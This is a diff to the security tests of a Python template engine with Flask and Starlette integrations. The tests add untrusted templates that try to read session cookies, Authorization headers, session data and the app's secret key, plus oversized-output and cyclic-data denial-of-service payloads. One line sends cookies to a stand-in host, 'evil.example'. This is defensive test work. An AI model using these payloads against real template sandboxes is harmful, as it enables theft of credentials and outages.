@@ -446,7 +446,7 @@ def _sandbox_attacks() -> list[Attack]:
 
 
 # -- integrations: Flask's template context --------------------------------------------------
-def _flask_run(template: str, expect_absent: str = SECRET, *, cookie: str = ""):
+def _flask_run(template: str, expect_absent: str = SECRET, *, cookie: str = "", authorization: str = ""):
     def run():
         import flask
 
@@ -456,10 +456,12 @@ def _flask_run(template: str, expect_absent: str = SECRET, *, cookie: str = ""):
         app.config["SECRET_KEY"] = SECRET
         Petite(app)
         headers = {"Cookie": cookie} if cookie else {}
+        if authorization:
+            headers["Authorization"] = authorization
         with app.test_request_context("/?q=1", headers=headers):
             try:
                 html = render_template_string(template)
-            except petite.PetiteError:
+            except (petite.PetiteError, petite.ExpressionError):  # refused: nothing shown
                 html = ""
         assert expect_absent not in html, f"an untrusted template read {expect_absent!r}: {html[:300]!r}"
         assert app.config["SECRET_KEY"] == SECRET, "a template rewrote the app's config"
@@ -481,11 +483,56 @@ def _integration_attacks() -> list[Attack]:
         "config-write": ("<p>{{ (config.SECRET_KEY = 'x', 1) }}</p>", "never", ""),
         "cookie-header": ("<img :src=\"'https://evil.example/?' + request.headers.get('Cookie')\">", SECRET, SESSION),
         "cookie-jar": ("<p>{{ request.cookies }}</p>", SECRET, SESSION),
+        # the same class: what a browser keeps from script, by any other way to it
+        "cookie-header-lower": ("<p>{{ request.headers.get('cookie') }}</p>", SECRET, SESSION),
+        "cookie-environ": ("<p>{{ request.environ.HTTP_COOKIE }} {{ request.environ }}</p>", SECRET, SESSION),
+        "cookie-display": ("<p>{{ request }} {{ JSON.stringify(request) }} {{ request.headers }}</p>", SECRET, SESSION),
+        "cookie-entries": ('<p v-for="(v, k) in request">{{ k }}={{ v }}</p>', SECRET, SESSION),
+        "cookie-headers-vfor": ('<p v-for="h in request.headers">{{ h }}</p>', SECRET, SESSION),
+        "authorization-header": ("<p>{{ request.headers.get('Authorization') }} {{ request.authorization }}</p>",
+                                 SECRET, "auth"),
     }
     for key, (template, absent, cookie) in cases.items():
-        out.append(Attack(f"c4-out-flask-{key}", 4, path="custom", run=_flask_run(template, absent, cookie=cookie),
-                          must="renders"))
+        auth = cookie == "auth"
+        run = _flask_run(template, absent, cookie="" if auth else cookie, authorization="Bearer " + SECRET if auth else "")
+        out.append(Attack(f"c4-out-flask-{key}", 4, path="custom", run=run, must="renders"))
+    starlette_cases = {
+        "cookie-header": "<p>{{ request.headers.get('cookie') }} {{ request.headers }}</p>",
+        "cookie-jar": "<p>{{ request.cookies }} {{ request.scope }}</p>",
+        "cookie-scope-headers": '<p v-for="h in request.headers">{{ h }}</p><p v-for="(v, k) in request">{{ k }}{{ v }}</p>',
+        "authorization": "<p>{{ request.headers.get('authorization') }} {{ JSON.stringify(request) }}</p>",
+        "session": "<p>{{ request.session }} {{ JSON.stringify(request.session) }}</p>",
+    }
+    for key, template in starlette_cases.items():
+        out.append(Attack(f"c4-out-starlette-{key}", 4, path="custom", run=_starlette_run(template), must="renders"))
     return out
+
+
+def _starlette_run(template: str):
+    """A Starlette `TemplateResponse` for a request carrying a session cookie, an
+    Authorization header and a session: none of them may reach the page."""
+
+    def run():
+        from starlette.requests import Request
+
+        from petite.starlette import PetiteTemplates
+
+        with tempfile.TemporaryDirectory() as folder:
+            Path(folder, "page.html").write_text(template, encoding="utf-8")
+            scope = {
+                "type": "http", "method": "GET", "path": "/", "query_string": b"q=1", "scheme": "http",
+                "server": ("testserver", 80), "root_path": "", "session": {"token": SECRET},
+                "headers": [(b"cookie", f"session={SECRET}".encode()), (b"authorization", f"Bearer {SECRET}".encode()),
+                            (b"host", b"testserver")],
+            }
+            try:
+                html = PetiteTemplates(folder).TemplateResponse(Request(scope), "page.html").body.decode()
+            except (petite.PetiteError, petite.ExpressionError):  # refused: nothing shown
+                html = ""
+        assert SECRET not in html, f"an untrusted template read the secret: {html[:300]!r}"
+        return html
+
+    return run
 
 
 
@@ -641,6 +688,23 @@ DATA_TEMPLATES = {
     "bytes-ljust": ("<p>{{ b.ljust(500000000).length }}</p>", lambda: {"b": b"x"}),
     "bytearray-doubling": ("<p>{{ (() => { for (let i = 0; i < 40; i++) b.extend(b); return 1 })() }}</p>", lambda: {"b": bytearray(b"xy")}),
     "datetime-strftime": ("<p>{{ d.strftime('%c'.repeat(499000)).length }}</p>", lambda: {"d": datetime.datetime(2020, 1, 1)}),
+    # the same classes by other entry points: class/style normalisation of shared data ...
+    "shared-list-class-static": ('<p class="a" :class="o">x</p>', lambda: {"o": _shared(22)}),
+    "shared-list-vbind-class": ('<p v-bind="{ class: o }">x</p>', lambda: {"o": _shared(22)}),
+    "shared-dict-class": ('<p :class="o">x</p>', lambda: {"o": [{f"k{i}": 1 for i in range(1000)}] * 100000}),
+    "shared-style-value": ('<p :style="{ color: o }">x</p>', lambda: {"o": _shared(22)}),
+    "shared-style-nested": ('<p :style="[o, [o]]">x</p>', lambda: {"o": _shared(21)}),
+    "shared-string-style": ('<p :style="s">x</p>', lambda: {"s": ["color: red;" + "x" * 999000] * 1000}),
+    "expr-shared-class": ("<p :class=\"Array(1000).fill('x'.repeat(999000))\">x</p>", lambda: {}),
+    "cyclic-style": ('<p :style="[a]">x</p>', _cyclic),
+    # ... and results of host methods, however they are called
+    "date-strftime": ("<p>{{ d.strftime('%A'.repeat(499000)).length }}</p>", lambda: {"d": datetime.date(2020, 1, 1)}),
+    "time-strftime": ("<p>{{ t.strftime('%X'.repeat(499000)).length }}</p>", lambda: {"t": datetime.time(1, 2)}),
+    "host-fn-string": ("<p>{{ pad(2000000).length }}</p>", lambda: {"pad": lambda n: "x" * n}),
+    "host-fn-list": ("<p>{{ rows(2000000).length }}</p>", lambda: {"rows": lambda n: [0] * n}),
+    "host-callback-string": ("<p>{{ [2000000].map(pad)[0].length }}</p>", lambda: {"pad": lambda n, *_: "x" * n}),
+    "host-method-strftime-call": ("<p>{{ d.strftime.call(d, '%c'.repeat(499000)).length }}</p>",
+                                  lambda: {"d": datetime.datetime(2020, 1, 1)}),
 }
 
 
@@ -662,7 +726,7 @@ LIMIT_ENDS_EITHER_WAY = {
     "cyclic-object-json", "shared-list-vmodel", "nan-key-object", "cyclic-list-string", "cyclic-join",
     "huge-int-display", "huge-int-attr", "huge-int-string", "huge-int-math", "huge-int-json", "cyclic-sort",
     "huge-int-negative", "huge-int-vtext", "huge-int-list", "huge-int-math-fns", "huge-int-number-fns", "huge-int-style",
-    "huge-int-vmodel", "huge-fraction-display",
+    "huge-int-vmodel", "huge-fraction-display", "cyclic-style",
     "array-length-assign", "array-index-far", "sort-comparator-mutates", "tolocale-digits", "intl-format-huge",
     "cyclic-class", "cyclic-flat", "deep-list-includes", "many-keys-vfor", "upper-expansion", "matchall-groups",
     "split-regex-groups", "escape-expansion", "array-fill-far", "structured-keys", "entries-string",
